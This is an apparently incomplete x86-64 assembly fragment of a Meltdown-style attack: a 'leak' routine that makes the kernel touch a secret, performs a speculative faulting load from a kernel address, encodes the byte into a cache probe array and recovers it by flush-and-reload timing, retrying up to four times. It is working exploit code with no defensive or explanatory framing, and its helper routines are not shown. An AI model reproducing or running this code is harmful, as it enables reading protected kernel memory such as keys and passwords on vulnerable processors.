    .text
# leak(RDI = address in the kernel) -> RAX = the byte there, or -1
leak:
    mov r12, rdi
    mov r13d, 4             # tries
again:
    call flush_table
    mov eax, 1000           # the kernel uses its secret
    mov edi, 2
    syscall
    lea rax, [rip + landed]
    mov [rip + landing], rax
    clflush [rip + slow]
    mfence
    mov rcx, [rip + slow]   # 200 cycles, and it is older than the load that faults
    movzx eax, byte ptr [r12]
    shl eax, 12
    mov al, [rax + 0x10000000]
landed:
    call reload_table
    test rax, rax
    jns found
    dec r13d
    jnz again
found:
    ret

    .data
    .balign 64
slow: .quad 0
    .zero 56
